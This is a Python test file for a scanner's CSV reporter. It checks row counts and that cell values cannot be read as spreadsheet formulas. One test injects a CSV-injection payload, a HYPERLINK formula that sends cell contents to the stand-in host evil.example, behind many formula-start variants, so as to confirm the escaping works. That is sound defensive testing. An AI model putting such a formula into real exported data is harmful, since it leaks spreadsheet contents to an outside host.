"""CSV, as a spreadsheet reads it: every cell is text."""

from __future__ import annotations

import csv
import io

import msgspec
import pytest

from hardgate.model import Location, State
from hardgate.reporters.csv import COLUMNS, render
from tests.reporters import sample_run, snapshots
from tests.reporters.huge import huge

CASES = {**snapshots.CASES, "huge": huge}


def _rows(document: bytes) -> list[dict[str, str]]:
    csv.field_size_limit(10_000_000)
    reader = csv.DictReader(io.StringIO(document.decode()), strict=True)
    assert tuple(reader.fieldnames or ()) == COLUMNS
    return list(reader)


@pytest.mark.parametrize("case", CASES)
def test_every_gap_and_finding_has_one_line(case: str) -> None:
    run, verdict = CASES[case]()
    rows = _rows(render(run, verdict))
    assert [row["type"] for row in rows] == [
        "verdict", *["gap"] * len(verdict.gaps), *["finding"] * len(run.findings)
    ]  # fmt: skip
    assert None not in {value for row in rows for value in row.values()}
    assert render(run, verdict).count(b"\n") == len(rows) + 1
    for state in State:
        assert sum(row["state"] == state for row in rows) == verdict.count(state)
    assert rows[0]["state"] == verdict.outcome


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠", " =", "\u200b="])  # noqa: RUF001
def test_no_cell_is_a_formula(start: str) -> None:
    run, verdict = sample_run.failing()
    evil = f'{start}HYPERLINK("https://evil.example?"&A1)'
    first = msgspec.structs.replace(
        run.findings[0], rule=evil, message=evil, fix=evil, location=Location(path=evil), ids=(evil,), cwe=(evil,)
    )
    out = render(msgspec.structs.replace(run, findings=(first, *run.findings[1:])), verdict)
    for row in _rows(out):
        for value in row.values():
            assert not value.lstrip().startswith(tuple("=+-@＝＋－＠"))  # noqa: RUF001
    assert "HYPERLINK" in out.decode()


def test_a_cell_that_is_no_formula_stays_as_it_is() -> None:
    row = _rows(render(*sample_run.failing()))[1]
    assert (row["rule"], row["path"], row["line"]) == ("aws-access-token", "config/settings.py", "14")
